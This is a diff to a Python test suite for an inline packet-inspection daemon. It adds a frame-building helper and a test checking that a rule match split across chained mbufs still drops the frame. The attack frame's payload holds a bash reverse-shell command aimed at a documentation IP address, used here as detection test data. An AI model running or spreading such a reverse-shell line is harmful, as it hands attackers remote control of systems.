@@ -11,13 +11,14 @@ import json
 import os
 import re
 import signal
+import struct
 import subprocess
 import sys
 import time
 import unittest
 import zlib
 
-from captures import frames, write_pcap
+from captures import file_header, frames, write_pcap
 
 TRAFGEN, PICKETD, POLICY, WORK = sys.argv[1:5]
 EAL = ["--no-huge", "--no-pci", "--no-shconf", "-m", "256", "--log-level", "lib.eal:error"]
@@ -27,6 +28,18 @@ def flow_key(frame):
     """The same for both directions of an IPv4 TCP/UDP flow, as a symmetric RSS hash is."""
     a, b = frame[26:30] + frame[34:36], frame[30:34] + frame[36:38]
     return zlib.crc32(min(a, b) + max(a, b))
+
+
+def tcp_frame(src, dst, sport, dport, payload):
+    """An Ethernet IPv4 TCP frame (PSH|ACK) carrying `payload`."""
+    tcp = struct.pack("!HHIIBBHHH", sport, dport, 1000, 1, 5 << 4, 0x18, 65535, 0, 0)
+    total = 20 + len(tcp) + len(payload)
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 1, 0, 64, 6, 0, bytes(src), bytes(dst))
+    words = struct.unpack("!10H", ip)
+    csum = sum(words)
+    csum = (csum & 0xFFFF) + (csum >> 16)
+    ip = ip[:10] + struct.pack("!H", ~csum & 0xFFFF) + ip[12:]
+    return b"\x02" * 6 + b"\x04" * 6 + b"\x08\x00" + ip + tcp + payload
 
 
 def record_keys(path):
@@ -63,11 +76,11 @@ class Inline(unittest.TestCase):
         cls.input = frames(cls.capture)
         cls.header = open(cls.capture, "rb").read()[:24]
 
-    def run_inline(self, name, args, eal, timeout=60):
+    def run_inline(self, name, args, eal, timeout=60, engine=None):
         eve = os.path.join(WORK, name + ".eve.json")
         if os.path.exists(eve):
             os.remove(eve)
-        run = subprocess.run([PICKETD, *self.engine_args, "--eve", eve, "--stop-when-idle", "300", *args, "--",
+        run = subprocess.run([PICKETD, *(engine or self.engine_args), "--eve", eve, "--stop-when-idle", "300", *args, "--",
                               *EAL, *eal], capture_output=True, text=True, timeout=timeout)
         self.assertEqual(run.returncode, 0, run.stderr)
         self.assertIn("stopped (idle)", run.stdout)
@@ -113,6 +126,23 @@ class Inline(unittest.TestCase):
             want = [f for f in self.forwarded if flow_key(f) % 2 == q]
             self.assertEqual(frames(outs[q]), want)
         self.assertEqual(sorted(record_keys(eve)), sorted(self.records))
+
+    def test_a_frame_over_several_mbufs_is_judged_whole(self):
+        # 6,000-byte frames do not fit one 2 KB mbuf: net_pcap chains three. The attack is in
+        # the last one, so only a worker that reads the whole frame drops it.
+        attack = tcp_frame([10, 0, 0, 5], [10, 0, 0, 6], 40000, 8080,
+                           b"x" * 5900 + b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
+        clean = tcp_frame([10, 0, 0, 7], [10, 0, 0, 8], 40001, 8080, b"y" * 5950)
+        capture, out = os.path.join(WORK, "jumbo.pcap"), os.path.join(WORK, "jumbo.out.pcap")
+        write_pcap(capture, file_header(), [attack, clean])
+        rules_only = ["-q", "--engine", "sw", "-S", os.path.join(POLICY, "demo.rules"), "--control", "none"]
+        run, eve = self.run_inline("jumbo", ["--ports", "0"],
+                                   ["-l", "0-1", "--vdev", f"net_pcap0,rx_pcap={capture},tx_pcap={out}"],
+                                   engine=rules_only)
+        self.assertEqual(frames(out), [clean])  # forwarded whole, all three pieces
+        alerts = [json.loads(l)["alert"]["signature_id"] for l in open(eve) if '"alert"' in l]
+        self.assertEqual(alerts, [1000005])
+        self.assertIn("2 received, 1 forwarded, 1 dropped", run.stdout)
 
     def test_sigterm_stops_it_with_final_counters(self):
         out = os.path.join(WORK, "signal.out.pcap")
